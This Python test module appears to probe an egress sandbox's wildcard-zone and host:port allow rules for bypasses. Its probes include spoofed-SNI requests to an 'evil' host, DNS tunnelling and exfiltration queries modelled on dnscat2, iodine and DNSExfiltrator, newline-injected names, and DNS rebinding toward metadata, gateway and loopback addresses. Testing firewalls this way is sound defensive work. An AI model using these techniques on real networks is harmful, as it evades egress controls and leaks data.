"""What a rule for all names below a zone, or for a port of a host, opens beside what it says."""
import socket

from common import *

BELOW = "zone.example"
TAKEN = "the owner of a listed zone answers for where each of its names leads"
HEARD = "whoever serves a listed zone is asked for every name below it, and so hears what was put into one"
SHARED_ZONE = "in a zone where anybody gets a name a wildcard lists everybody"


def ask(message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(message, RESOLVER)
        return listen(sock)


@row("zone.apex", "suffix rules that cover the zone itself, as NO_PROXY does", f"shared:443 tls sni={BELOW}")
def _():
    """The zone's own name, which *.zone does not cover."""
    tls(SHARED, 443, BELOW, get(BELOW))


@row("zone.apex_http", "suffix rules that cover the zone itself, as NO_PROXY does", "shared:80 raw")
def _():
    """The zone's own name in a request, with the root's dot."""
    tell(SHARED, 80, get(f"{BELOW}."))


@row("zone.apex_name", "RFC 4592, 4.2", f"=dns q={BELOW} type=1")
def _():
    """The zone's own name, asked for."""
    socket.getaddrinfo(BELOW, 80, socket.AF_INET)


@row("zone.suffix", "suffix without a dot: coder/httpjail rule tests", f"dns q={{t}}-{BELOW}")
def _():
    """A name that ends like the zone, without a dot before it."""
    ask(question(f"{TOKEN}-{BELOW}"))


@row("zone.suffix_tls", "suffix without a dot: coder/httpjail rule tests", f"evil:443 tls sni=evil-{BELOW}")
def _():
    """The same in a hello."""
    tls(EVIL, 443, f"evil-{BELOW}", get(f"evil-{BELOW}"))


@row("zone.prefix", "prefix match: github/gh-aw-firewall tests", f"dns q=a.{BELOW}.{{t}}.evil.test")
def _():
    """A name below the zone as the beginning of another."""
    ask(question(f"a.{BELOW}.{TOKEN}.evil.test"))


@row("zone.elsewhere", "curl --connect-to in github/gh-aw-firewall tests", f"evil:443 tls sni={{t}}.{BELOW}")
def _():
    """Any name below the zone in the hello, and the attacker's address."""
    tls(EVIL, 443, f"{TOKEN}.{BELOW}", get(f"{TOKEN}.{BELOW}"))


@row("zone.host_elsewhere", "curl --connect-to in github/gh-aw-firewall tests", "evil:80 raw")
def _():
    """Any name below the zone as Host, and the attacker's address."""
    tell(EVIL, 80, get(f"{TOKEN}.{BELOW}"))


@row("zone.txt", "dnscat2 (github.com/iagox86/dnscat2)", f"dns q={{t}}.{BELOW} type=16")
def _():
    """TXT of a name below the zone, whose answers carry most back."""
    ask(question(f"{TOKEN}.{BELOW}", 16))


@row("zone.null", "iodine (github.com/yarrick/iodine)", f"dns q={{t}}.{BELOW} type=10")
def _():
    """NULL records of a name below the zone."""
    ask(question(f"{TOKEN}.{BELOW}", 10))


@row("zone.underscore", "RFC 8552", f"dns q=_{{t}}.{BELOW}")
def _():
    """A label with an underscore, as no host has one."""
    ask(question(f"_{TOKEN}.{BELOW}"))


@row("zone.binary", "iodine (github.com/yarrick/iodine)", "dns")
def _():
    """Labels with all eight bits below the zone."""
    ask(question([bytes(range(128, 170)) + T, b"zone", b"example"]))


@row("zone.lines", "Jeitner, Shulman: Injection Attacks Reloaded (USENIX Security 2021)", "dns")
def _():
    """A label with line ends and a listed name in it, for whatever reads names line by line."""
    ask(question([b"x\n" + T + b".evil.test\n", b"zone", b"example"]))


@row("zone.case", "draft-vixie-dnsext-dns0x20: case as a channel", "=dns q=CaSeD.ZoNe.ExAmPlE")
def _():
    """Data in the case of the letters of a name below the zone."""
    ask(question("CaSeD.ZoNe.ExAmPlE"))


@row("zone.tunnel", "DNSExfiltrator (github.com/Arno0x/DNSExfiltrator)", "dns q={t}x", open=HEARD)
def _():
    """A name of full length below the zone: some 180 bytes of payload a question."""
    ask(question([T + b"x" * 55, b"y" * 60, b"z" * 60, b"zone", b"example"]))


@row("zone.taken", "Liu, Hao, Wang: All Your DNS Records Point to Us (CCS 2016)", f"evil:443 tls sni=taken.{BELOW}", open=TAKEN)
def _():
    """A name below the zone that its owner has let lead to somebody else's host."""
    tls(EVIL, 443, f"taken.{BELOW}", get(f"taken.{BELOW}"))


@row("zone.tenant", "publicsuffix.org, private section", f"shared:443 tls sni=tenant.{BELOW}", open=SHARED_ZONE)
def _():
    """Another tenant's name in a zone that gives names to anybody."""
    tls(SHARED, 443, f"tenant.{BELOW}", get(f"tenant.{BELOW}"))


def rebind(id, addresses, seen, sentence, tries=1):
    name = f"{id}.{BELOW}"

    def send():
        for _ in range(tries):
            found = []
            try:
                found = [entry[4][0] for entry in socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)]
            except OSError:
                pass
            for address in dict.fromkeys(found + addresses + [API]):
                try:
                    tell(address, 80, get(name), 0.3)
                except OSError:
                    pass
    send.__doc__ = sentence
    row(f"zone.rebind_{id}", "Jackson et al.: Protecting Browsers from DNS Rebinding Attacks (CCS 2007)", seen, limit=9)(send)


rebind("metadata", ["169.254.169.253"], "metadata:80 raw", "A name below the zone that leads to the metadata service.")
rebind("gateway", [GATEWAY], "gateway:80 raw", "A name below the zone that leads to the host.")
rebind("sibling", ["172.30.0.33"], "sibling:80 raw", "A name below the zone that leads to another container.")
rebind("loopback", [], "loopback:80 raw", "A name below the zone that leads to a service of the container's own.")
rebind("mapped", [f"::ffff:{GATEWAY}"], "gateway:80 raw", "A name below the zone that leads to the host in IPv6 clothes.")
rebind("flip", [], "metadata:80 raw", "A name below the zone that leads to a good address first and to a bad one after.", tries=4)


def raw(id, source, address, port, seen, sentence):
    def send():
        tell(address, port, T + b"\n")
    send.__doc__ = sentence
    row(f"raw.{id}", source, seen)(send)


BY_ADDRESS = "the seed opens addresses on all ports"
raw("other_port", BY_ADDRESS, SHARED, 3306, "shared:3306 raw", "Another port of a host that is listed with one.")
raw("other_port6", BY_ADDRESS, SHARED6, 3306, "shared:3306 raw", "The same over IPv6.")
raw("other_rules_port", "rules whose hosts and ports are mixed", "203.0.113.140", 5432, "many:5432 raw", "The port of one rule at the host of another.")
raw("other_host", "rules that open a port for everybody", EVIL, 5432, "evil:5432 raw", "A listed port of a host that is not.")
raw("other_host6", "rules that open a port for everybody", EVIL6, 22, "evil:22 raw", "The same over IPv6.")


@row("raw.udp", "rules without a protocol", "wire proto=17 dst=203.0.113.20")
def _():
    """UDP to the port that a rule opens for TCP."""
    udp(SHARED, 5432, T)
